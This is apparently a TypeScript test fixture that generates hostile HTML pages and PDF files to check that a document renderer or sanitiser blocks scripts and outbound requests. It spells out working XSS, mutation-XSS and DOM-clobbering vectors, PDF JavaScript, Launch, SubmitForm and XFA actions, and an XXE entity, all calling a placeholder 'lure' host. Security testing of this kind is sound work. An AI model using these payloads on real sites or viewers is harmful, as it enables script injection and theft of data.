/** Documents of our own making that want to run something, fetch something, send something or lead somewhere. */
import { hostilePage, hostilePdf, pdf } from '../../test/support/papers.ts';
import type { Letter } from '../../test/support/reported.ts';

const html = (title: string, body: string): Letter => ({ title, contentType: 'text/html', bytes: new TextEncoder().encode(`<!doctype html><html><body>Dear colleague${body}</body></html>`) });
const paper = (title: string, bytes: Uint8Array): Letter => ({ title, contentType: 'application/pdf', bytes });

/** What a script of a letter would do, if there were one. */
const act = (lure: string, name: string) => `top.attack.ran.push('${name}');fetch('${lure}${name}')`;

/** Actions of ISO 32000-1, 12.6, each as a dictionary. */
const actions = (lure: string): Record<string, string> => ({
  JavaScript: `<< /S /JavaScript /JS (${act(lure, 'pdf-js').replaceAll(/[()]/g, '\\$&')}; app.launchURL\\('${lure}launch-url'\\); this.submitForm\\('${lure}submit'\\)) >>`,
  URI: `<< /S /URI /URI (${lure}uri) >>`,
  Launch: `<< /S /Launch /F << /FS /URL /F (${lure}launch) >> /NewWindow true >>`,
  GoToR: `<< /S /GoToR /F << /FS /URL /F (${lure}go) >> /D [0 /Fit] >>`,
  GoToE: `<< /S /GoToE /F << /FS /URL /F (${lure}embedded) >> /D [0 /Fit] /T << /R /C /N (x) >> >>`,
  SubmitForm: `<< /S /SubmitForm /F << /FS /URL /F (${lure}submit) >> /Flags 4 >>`,
  ImportData: `<< /S /ImportData /F << /FS /URL /F (${lure}import) >> >>`,
  Rendition: `<< /S /Rendition /OP 0 /JS (${act(lure, 'rendition').replaceAll(/[()]/g, '\\$&')}) /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${lure}rendition) >> >> >> >>`,
  Movie: `<< /S /Movie /T (x) >>`,
  Sound: `<< /S /Sound /Sound << /F << /FS /URL /F (${lure}sound) >> /R 8000 >> >>`,
  Named: `<< /S /Named /N /Print >>`,
});

const XFA = (lure: string) =>
  `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f" layout="tb"><pageSet><pageArea><contentArea w="7in" h="9in"/><medium short="8in" long="11in"/></pageArea></pageSet>` +
  `<event activity="initialize"><script contentType="application/x-javascript">${act(lure, 'xfa')}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="${lure}xfa-link">x</a><img src="${lure}xfa-image" onerror="${act(lure, 'xfa-image')}"/><script>${act(lure, 'xfa-script')}</script></body></exData></value></draw></subform></template></xdp:xdp>`;

const stream = (dictionary: string, text: string) => `<< ${dictionary} /Length ${text.length} >>\nstream\n${text}\nendstream`;

/** Every action at every place that may have one, and every part of a PDF that may bring something of its own. */
function pdfs(lure: string): Letter[] {
  const at = (action: string): Record<string, [catalogue: string, page: string, more?: string[]]> => ({
    OpenAction: [`/OpenAction ${action}`, ''],
    'document events': [`/AA << /WC ${action} /WS ${action} /DS ${action} /WP ${action} /DP ${action} >>`, ''],
    'page events': ['', `/AA << /O ${action} /C ${action} >>`],
    link: ['', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} /PA ${action} >>`]],
    'annotation events': ['', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] /AA << /E ${action} /X ${action} /D ${action} /U ${action} /Fo ${action} /PO ${action} /PV ${action} /PI ${action} >> >>`]],
    field: ['/AcroForm << /Fields [4 0 R] /NeedAppearances true /CO [4 0 R] >>', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /DA (/F1 12 Tf) /Rect [0 0 595 842] /A ${action} /AA << /K ${action} /F ${action} /V ${action} /C ${action} >> >>`]],
    outline: ['/Outlines 4 0 R /PageMode /UseOutlines', '', [`<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>`, `<< /Title (<img src=x onerror=alert\\(1\\)>) /Parent 4 0 R /A ${action} >>`]],
    'chain of actions': [`/OpenAction << /S /GoTo /D [0 /Fit] /Next [${action} ${action}] >>`, ''],
    names: [`/Names << /JavaScript << /Names [(a) ${action} (b) ${action}] >> >>`, ''],
  });
  const acting = Object.entries(actions(lure)).flatMap(([action, dictionary]) =>
    Object.entries(at(dictionary)).map(([place, [catalogue, page, more]]) => paper(`PDF: ${action} as ${place}`, pdf(['Hostile letter', 'Page two'], catalogue, page, more))),
  );
  const text = `<< /Type /Annot /Subtype /FreeText /Rect [0 0 500 500] /Contents (<script>${act(lure, 'free').replaceAll(/[()]/g, '\\$&')}</script>) /RC (<body><img src="${lure}rich" onerror="alert\\(1\\)"></body>) /DA (/F1 12 Tf) >>`;
  return [
    paper('PDF: many at once', hostilePdf(lure)),
    paper('PDF: embedded file', pdf(['Hostile letter'], '/Names << /EmbeddedFiles << /Names [(x.html) 4 0 R] >> >> /AF [4 0 R]', '', [`<< /Type /Filespec /F (x.html) /EF << /F 5 0 R >> >>`, stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', `<script>${act(lure, 'embedded-file')}</script>`)])),
    paper('PDF: attached file', pdf(['Hostile letter'], '', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 595 842] /FS << /Type /Filespec /FS /URL /F (${lure}file) >> >>`])),
    paper('PDF: XFA', pdf(['Hostile letter'], '/NeedsRendering true /AcroForm << /Fields [] /XFA 4 0 R >>', '', [stream('', XFA(lure))])),
    paper('PDF: picture kept elsewhere', pdf(['Hostile letter'], '', '', [`<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${lure}picture) >> /Length 0 >>\nstream\n\nendstream`])),
    paper('PDF: page kept elsewhere', pdf(['Hostile letter'], '', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /RichMedia /Rect [0 0 595 842] /RichMediaContent << /Assets << /Names [(a) << /FS /URL /F (${lure}rich-media) >>] >> >> /RichMediaSettings << /Activation << /Condition /PV >> >> >>`])),
    paper('PDF: rich text', pdf(['Hostile letter'], '', '/Annots [4 0 R]', [text])),
    paper('PDF: its own description', pdf(['Hostile letter'], '/Metadata 4 0 R /Lang (en\\" onload=alert\\(1\\)) /ViewerPreferences << /DisplayDocTitle true >>', '', [stream('/Type /Metadata /Subtype /XML', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${lure}entity">]><x>&e;</x>`)])),
    ...acting,
  ];
}

/** Known ways for one parser's text to be another's element: namespaces, tables, raw texts, comments, clobbering. */
function pages(lure: string): Letter[] {
  const run = `alert(1)`;
  const img = `<img src="${lure}m" onerror="${run}">`;
  const bodies: Record<string, string> = {
    script: `<script>${act(lure, 'script')}</script><script src="${lure}script"></script><script type=module>import '${lure}module'</script>`,
    handlers: ['load', 'error', 'focus', 'toggle', 'begin', 'animationstart', 'pointerover', 'wheel', 'beforetoggle', 'contentvisibilityautostatechange'].map((event) => `<p on${event}="${run}" style="animation: x 1s" tabindex=0 autofocus>${event}</p>`).join(''),
    sheets: `<style>@import "${lure}import"; @font-face { font-family: f; src: url(${lure}font) } * { background: url(${lure}sheet); font-family: f; cursor: url(${lure}cursor), auto } p::before { content: url(${lure}content) }</style><link rel=stylesheet href="${lure}link"><p style="background: url(${lure}attribute); list-style: url(${lure}list)">Styled</p>`,
    'image-set and var': `<p style="--x: url(${lure}var); background: var(--x), image-set('${lure}set' 1x); mask: url(${lure}mask); filter: url(${lure}filter#f); shape-outside: url(${lure}shape)">Styled</p>`,
    refresh: `<meta http-equiv=refresh content="0;url=${lure}refresh"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><meta http-equiv=set-cookie content="x=1">`,
    base: `<base href="${lure}" target=_top><a href=x>x</a><img src=relative>`,
    form: `<form action="${lure}form" id=f><input name=x value=y autofocus onfocus="${run}"><button formaction="${lure}formaction">Send</button><input type=image src="${lure}input"></form><isindex action="${lure}">`,
    frames: `<iframe src="${lure}frame"></iframe><iframe srcdoc="<script>${act(lure, 'srcdoc').replaceAll('"', '&quot;')}</script>"></iframe><frameset><frame src="${lure}frameset"></frameset><object data="${lure}object"><embed src="${lure}embed"></object><portal src="${lure}portal"></portal><fencedframe></fencedframe>`,
    media: `<video src="${lure}video" poster="${lure}poster" autoplay><source src="${lure}source" onerror="${run}"><track src="${lure}track"></video><audio src="${lure}audio" autoplay></audio><picture><source srcset="${lure}srcset"><img src="${lure}picture"></picture><img srcset="${lure}one 1x, ${lure}two 2x" loading=eager><img lowsrc="${lure}low" dynsrc="${lure}dyn"><bgsound src="${lure}sound">`,
    links: `<link rel=prefetch href="${lure}prefetch"><link rel=preconnect href="//lure.invalid"><link rel=dns-prefetch href="//lure.invalid"><link rel=preload as=image href="${lure}preload"><link rel=modulepreload href="${lure}modulepreload"><link rel=icon href="${lure}icon"><link rel=manifest href="${lure}manifest"><a href="${lure}a" ping="${lure}ping" download>Results</a><area href="javascript:${run}">`,
    backgrounds: `<table background="${lure}table"><td background="${lure}cell">x</td></table><body background="${lure}body">`,
    svg: `<svg onload="${run}" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="${lure}image" xlink:href="${lure}xlink"/><use href="${lure}use#x"/><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a><animate onbegin="${run}" attributeName=x dur=1s /><set attributeName=href to="javascript:${run}"/><foreignObject>${img}</foreignObject><filter><feImage href="${lure}fe"/></filter><style>@import "${lure}svg-import"</style></svg>`,
    'svg title': `<svg></p><title><style></title>${img}</style>`,
    'svg style': `<svg><style><a id="</style>${img}">`,
    'svg desc': `<svg><desc><template><style></template>${img}</style></desc></svg>`,
    math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    'math form': `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    'math href': `<math href="javascript:${run}"><mi xlink:href="${lure}mi">x</mi><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
    'math option': `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${img}">`,
    deep: `${'<div>'.repeat(600)}<svg><style>${img}</style></svg>`,
    'nested forms': `<form id=a><div></form><form><input name=attributes><input name=parentNode><input name=nodeName>${img}</form></div>`,
    clobbering: `<img name=createElement><img name=body><a id=attack href="${lure}"></a><a id=attack name=ran></a><form name=document><output name=querySelector></form>`,
    noscript: `<noscript><p title="</noscript>${img}">x</noscript>`,
    'raw texts': ['xmp', 'noembed', 'noframes', 'plaintext', 'textarea', 'title', 'style', 'iframe'].map((tag) => `<${tag}><p title="</${tag}>${img}">x</${tag}>`).join(''),
    templates: `<template><script>${run}</script>${img}</template><div><template shadowrootmode=open><style>@import "${lure}shadow"</style>${img}<slot onslotchange="${run}"></slot></template></div>`,
    comments: `<!--><img src=x onerror=${run}>--><!--!>${img}<![CDATA[${img}]]><?xml-stylesheet href="${lure}pi"?><!-- --!>${img}`,
    custom: `<lcr-context gateway="${lure}" patient="9990000018" token-url="${lure}token"><lcr-allergies></lcr-allergies></lcr-context><p is="x-p" onclick="${run}">x</p><x-y onfocus="${run}" tabindex=1 autofocus>x</x-y>`,
    'odd schemes': ['javascript', 'JaVaScRiPt', '&#106;avascript', 'java\tscript', '\u0001javascript', 'vbscript', 'data:text/html,<script>alert(1)</script>', 'blob', 'feed:javascript', 'view-source'].map((scheme) => `<a href="${scheme}:${run}">x</a><img src="${scheme}:${run}"><form action="${scheme}:${run}">`).join(''),
    'data pictures': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${lure}data'/></svg>"><img src="data:image/png;base64,iVBORw0KGgo=" onerror="${run}" onload="${run}"><img src=" data:image/png;base64,x">`,
    'style in words': `<p title="style sheet">The STYLE="red" of life, &lt;style&gt;</p><textarea><style>x</style></textarea>`,
    'moved scripts': `<unknown><svg><script>${run}</script><style>p { color: red }</style></svg><math><script>${run}</script></math><script>${run}</script><audio src="data:audio/wav;base64,UklGRg==" autoplay></audio><video src="data:video/mp4,x"></video></unknown>`,
    permissions: `<p popover=auto id=pop>p</p><button popovertarget=pop command=show-modal commandfor=pop>x</button><dialog open>d</dialog><input type=file><keygen><menu contextmenu=x>`,
  };
  return [{ title: 'page: many at once', contentType: 'text/html', bytes: hostilePage(lure) }, ...Object.entries(bodies).map(([name, body]) => html(`page: ${name}`, body))];
}

export const papers = (lure: string): Letter[] => [...pages(lure), ...pdfs(lure)];

/** Lines of a collection as letters, each pack of them one. */
export const letters = (lines: readonly string[], pack: number): Letter[] =>
  Array.from({ length: Math.ceil(lines.length / pack) }, (_, at) => html(`page: lines ${at * pack} and ${pack} more`, lines.slice(at * pack, (at + 1) * pack).join('\n')));
